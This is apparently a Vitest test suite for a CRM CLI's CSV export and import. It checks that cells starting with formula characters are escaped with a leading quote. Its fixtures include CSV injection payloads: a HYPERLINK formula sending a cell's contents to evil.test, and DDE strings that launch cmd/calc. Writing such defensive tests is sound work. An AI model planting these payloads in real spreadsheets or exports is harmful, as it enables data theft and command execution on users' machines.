import { parse } from 'csv-parse/sync';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCrm } from '../helpers/cli-process.js';
import { apiClient, tempDir, type ApiClient } from '../helpers/sandbox.js';
import { useApp, type RunningApp } from '../helpers/app.js';
import { defineFields } from '../helpers/sync.js';

/**
 * CSV formula injection (OWASP "CSV Injection", docs/security.md#csv-files): a record whose fields start with what a
 * spreadsheet runs (= + - @ tab CR, and full-width ＝) is written to the CSV files crm makes, and
 * the files are read cell by cell as a spreadsheet would see them after CSV decoding. No cell may
 * start with a trigger; --raw gives the cells as they are; the import reads the escaped cells back
 * to exactly the stored values.
 */
let sandbox: RunningApp;
let api: ApiClient;
useApp({ rateLimit: '0' }, (s, a) => ((sandbox = s), (api = a)));
const tmp = tempDir('crm-csv-injection-');
afterAll(() => tmp.remove());

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠'];
const PAYLOADS = [
  '=HYPERLINK("https://evil.test/?"&A2,"open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  "'=1+1 already quoted", // a real value that starts with '= must come back with its quote
];
/** What an export must write for each payload: one more ' in front. */
const escaped = (payload: string) => `'${payload}`;
/** What an attacker writes into a file to import: a trigger first (a cell starting with ' is read as escaped). */
const HOSTILE = PAYLOADS.filter((p) => !p.startsWith("'"));

const LEAD_FIELDS = ['first_name', 'last_name', 'company', 'title', 'notes', 'phone'] as const;
const leadOf = (payload: string, i: number) => ({
  external_id: `inj-${i}`,
  ...Object.fromEntries(LEAD_FIELDS.map((field) => [field, payload])),
  email: `inj${i}@example.com`,
  tags: [payload.split('|')[0]!, 'vip'],
  custom_fields: { note: payload, score: -12.5 },
});
const clientOf = (payload: string, i: number) => ({
  external_id: `inj-${i}`,
  name: payload,
  address: { line1: payload, city: payload },
  contacts: [{ first_name: payload, last_name: payload, role: payload, is_primary: true }],
});

const env = (apiKey = sandbox.apiKey) => ({ CRM_BASE_URL: sandbox.baseUrl, CRM_API_KEY: apiKey });
const crm = (args: string[], apiKey?: string) => runCrm(args, env(apiKey));
/** Every cell of a CSV file, header included, as a spreadsheet gets it after CSV decoding. */
const cellsOf = (path: string): string[][] => parse(readFileSync(path), { bom: true, relax_column_count: true }) as string[][];
const rowsOf = (path: string): Record<string, string>[] => parse(readFileSync(path), { bom: true, columns: true }) as Record<string, string>[];
/** The cells a spreadsheet would run: a trigger first, unless the cell is a plain negative number. */
const runnable = (cells: string[][]) => cells.flat().filter((c) => TRIGGERS.some((t) => c.startsWith(t)) && !/^-\d+(\.\d+)?$/.test(c));

let n = 0;
const file = (name: string) => join(tmp.path, `${++n}-${name}`);
async function exportTo(resource: string, ...args: string[]): Promise<string> {
  const out = file(`${resource}.csv`);
  const run = await crm(['sync', 'export', resource, '--out', out, ...args]);
  expect(run.code, run.stderr).toBe(0);
  return out;
}
/** The custom fields the records hold and the files fill (docs/sync.md#custom-fields): an export writes each as a column named by its key. */
const LEAD_CUSTOM_FIELDS = { note: 'text', score: 'number', formula: 'text' };
async function newAccount(name: string): Promise<string> {
  const created = await api.post('/_sandbox/accounts', { name, seed: null });
  expect(created.status).toBe(201);
  await defineFields(apiClient({ baseUrl: sandbox.baseUrl, apiKey: created.body.api_key }), 'lead', LEAD_CUSTOM_FIELDS);
  return created.body.api_key as string;
}
async function all(resource: string, apiKey = sandbox.apiKey): Promise<Map<string, Record<string, unknown>>> {
  const list = await apiClient({ baseUrl: sandbox.baseUrl, apiKey }).get(`/v1/${resource}?limit=100`);
  expect(list.status).toBe(200);
  return new Map((list.body.data as Record<string, unknown>[]).map((r) => [r.external_id as string, r]));
}

beforeAll(async () => {
  await defineFields(api, 'lead', LEAD_CUSTOM_FIELDS);
  const leads = await api.post('/v1/leads/bulk', { mode: 'create', records: PAYLOADS.map(leadOf) });
  expect(leads.body.summary, JSON.stringify(leads.body)).toMatchObject({ created: PAYLOADS.length, failed: 0 });
  const clients = await api.post('/v1/clients/bulk', { mode: 'create', records: PAYLOADS.map(clientOf) });
  expect(clients.body.summary, JSON.stringify(clients.body)).toMatchObject({ created: PAYLOADS.length, failed: 0 });
});

describe('crm sync export', () => {
  it('writes no cell a spreadsheet would run: each hostile field gets a leading quote', async () => {
    const out = await exportTo('leads');
    expect(runnable(cellsOf(out))).toEqual([]);
    const rows = new Map(rowsOf(out).map((r) => [r.external_id, r]));
    PAYLOADS.forEach((payload, i) => {
      const row = rows.get(`inj-${i}`)!;
      for (const field of [...LEAD_FIELDS, 'note']) expect(row[field], `${JSON.stringify(payload)} ${field}`).toBe(escaped(payload));
      expect(row.tags).toBe(escaped(`${payload.split('|')[0]}|vip`));
      expect(row.score).toBe('-12.5'); // a plain negative number stays a number
    });

    const clients = await exportTo('clients');
    expect(runnable(cellsOf(clients))).toEqual([]);
    const first = rowsOf(clients).find((r) => r.external_id === 'inj-0')!;
    for (const column of ['name', 'address.line1', 'address.city', 'contact.first_name', 'contact.last_name', 'contact.role'])
      expect(first[column], column).toBe(escaped(PAYLOADS[0]!));
  });

  it('--raw writes the cells exactly as stored', async () => {
    const rows = new Map(rowsOf(await exportTo('leads', '--raw')).map((r) => [r.external_id, r]));
    PAYLOADS.forEach((payload, i) => {
      for (const field of [...LEAD_FIELDS, 'note']) expect(rows.get(`inj-${i}`)![field], `${JSON.stringify(payload)} ${field}`).toBe(payload);
    });
  });

  it('--format jsonl is never escaped', async () => {
    const out = await exportTo('leads', '--format', 'jsonl');
    const records = readFileSync(out, 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    PAYLOADS.forEach((payload, i) => expect(records.find((r) => r.external_id === `inj-${i}`)).toMatchObject({ first_name: payload, notes: payload }));
  });
});

describe('export, then import into another account', () => {
  const FIELDS = ['first_name', 'last_name', 'email', 'phone', 'company', 'title', 'source', 'status', 'notes', 'tags', 'custom_fields'];

  it('reads the escaped cells back to exactly the stored values, field by field', async () => {
    for (const [resource, fields] of [
      ['leads', FIELDS],
      ['clients', ['name', 'kind', 'address', 'contacts']],
    ] as const) {
      const out = await exportTo(resource);
      const key = await newAccount(`copy of ${resource}`);
      const run = await crm(['sync', 'import', resource, out, '--map', 'id=', '--results', file('results'), '--json'], key);
      expect(run.code, run.stderr + run.stdout).toBe(0);
      expect(JSON.parse(run.stdout).summary).toMatchObject({ created: PAYLOADS.length, failed: 0 });
      const [originals, copies] = await Promise.all([all(resource), all(resource, key)]);
      for (const [externalId, original] of originals) {
        const copy = copies.get(externalId)!;
        for (const field of fields) {
          const strip = (v: unknown) =>
            field === 'contacts' ? (v as Record<string, unknown>[]).map(({ id: _id, client_id: _client, created_at: _c, updated_at: _u, ...rest }) => rest) : v;
          expect(strip(copy[field]), `${resource} ${externalId} ${field}`).toEqual(strip(original[field]));
        }
      }
    }
  });

  it("a --raw export imports back exactly with --raw (a stored '= keeps its quote)", async () => {
    const out = await exportTo('leads', '--raw');
    const key = await newAccount('copy of a raw export');
    const run = await crm(['sync', 'import', 'leads', out, '--raw', '--map', 'id=', '--results', file('results'), '--json'], key);
    expect(run.code, run.stderr + run.stdout).toBe(0);
    const copies = await all('leads', key);
    PAYLOADS.forEach((payload, i) =>
      expect(copies.get(`inj-${i}`), JSON.stringify(payload)).toMatchObject({
        first_name: payload,
        notes: payload,
        custom_fields: { note: payload, score: -12.5 },
      }),
    );
  });
});

describe('results files of an import', () => {
  const HEADER = 'external_id,=1+1,first_name,email';
  const hostileCsv = (rows: string[]) => {
    const path = file('hostile.csv');
    writeFileSync(path, `${[HEADER, ...rows].join('\n')}\n`);
    return path;
  };
  const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;

  it('failed.csv escapes the hostile cells of a row that fails validation (and a hostile header)', async () => {
    const rows = HOSTILE.map((payload, i) => [`bad-${i}`, quoted(payload), quoted(payload), 'not-an-email'].join(','));
    const results = file('results');
    const run = await crm(['sync', 'import', 'leads', hostileCsv(rows), '--map', '=1+1=custom.formula', '--results', results, '--json']);
    expect(run.code, run.stderr).toBe(1);
    expect(JSON.parse(run.stdout).summary).toMatchObject({ failed: HOSTILE.length });
    const failed = join(results, 'failed.csv');
    expect(runnable(cellsOf(failed))).toEqual([]);
    const [header, ...cells] = cellsOf(failed);
    expect(header![1]).toBe(escaped('=1+1'));
    HOSTILE.forEach((payload, i) => {
      expect(cells[i]![0]).toBe(`bad-${i}`);
      expect(cells[i]!.slice(1, 3)).toEqual([escaped(payload), escaped(payload)]);
      expect(cells[i]![5]).toBe('validation_failed');
    });
  });

  it('unprocessed.csv escapes the rows an import stopped before sending', async () => {
    const rows = HOSTILE.map((payload, i) => [`stop-${i}`, quoted(payload), quoted(payload), `stop${i}@example.com`].join(','));
    const results = file('results');
    // A key the server refuses stops the import before its first batch: every row is left unprocessed.
    // (Its hostile column dropped: a custom field would have the import read the definitions first, refused already.)
    const run = await runCrm(
      ['sync', 'import', 'leads', hostileCsv(rows), '--map', '=1+1=', '--results', results, '--retries', '0'],
      env('crm_test_' + 'x'.repeat(32)),
    );
    expect(run.code, run.stderr + run.stdout).toBe(1);
    const unprocessed = join(results, 'unprocessed.csv');
    expect(runnable(cellsOf(unprocessed))).toEqual([]);
    const cells = cellsOf(unprocessed).slice(1);
    HOSTILE.forEach((payload, i) => expect(cells[i]!.slice(0, 3)).toEqual([`stop-${i}`, escaped(payload), escaped(payload)]));
  });

  it('plan.csv escapes the from and to of each change', async () => {
    // Each lead's first_name changed to the next payload, written as an export writes it.
    const next = (i: number) => PAYLOADS[(i + 1) % PAYLOADS.length]!;
    const rows = PAYLOADS.map((_, i) => `inj-${i},${quoted(escaped(next(i)))}`);
    const path = file('changes.csv');
    writeFileSync(path, `external_id,first_name\n${rows.join('\n')}\n`);
    const results = file('plan');
    const run = await crm(['sync', 'import', 'leads', path, '--plan', '--results', results, '--json']);
    expect(run.code, run.stderr + run.stdout).toBe(0);
    const plan = join(results, 'plan.csv');
    expect(runnable(cellsOf(plan))).toEqual([]);
    const changes = rowsOf(plan);
    expect(changes).toHaveLength(PAYLOADS.length);
    const leads = await all('leads');
    PAYLOADS.forEach((payload, i) => {
      expect(changes.find((c) => c.id === leads.get(`inj-${i}`)!.id)).toMatchObject({ field: 'first_name', from: escaped(payload), to: escaped(next(i)) });
    });
  });

  it('failed.csv, corrected, imports back with its cells read as the file had them', async () => {
    const rows = [['fix-0', quoted(HOSTILE[0]!), quoted(HOSTILE[1]!), 'not-an-email'].join(',')];
    const results = file('results');
    expect((await crm(['sync', 'import', 'leads', hostileCsv(rows), '--map', '=1+1=custom.formula', '--results', results])).code).toBe(1);
    // The user fixes the email in failed.csv (as a spreadsheet would save it: cells as shown) and imports it.
    const fixed = readFileSync(join(results, 'failed.csv'), 'utf8').replace('not-an-email', 'fix0@example.com');
    const again = file('fixed.csv');
    writeFileSync(again, fixed);
    const run = await crm([
      'sync',
      'import',
      'leads',
      again,
      '--map',
      '=1+1=custom.formula,line=,error_code=,error_message=',
      '--results',
      file('results'),
      '--json',
    ]);
    expect(run.code, run.stderr + run.stdout).toBe(0);
    expect((await all('leads')).get('fix-0')).toMatchObject({ first_name: HOSTILE[1], custom_fields: { formula: HOSTILE[0] } });
  });
});
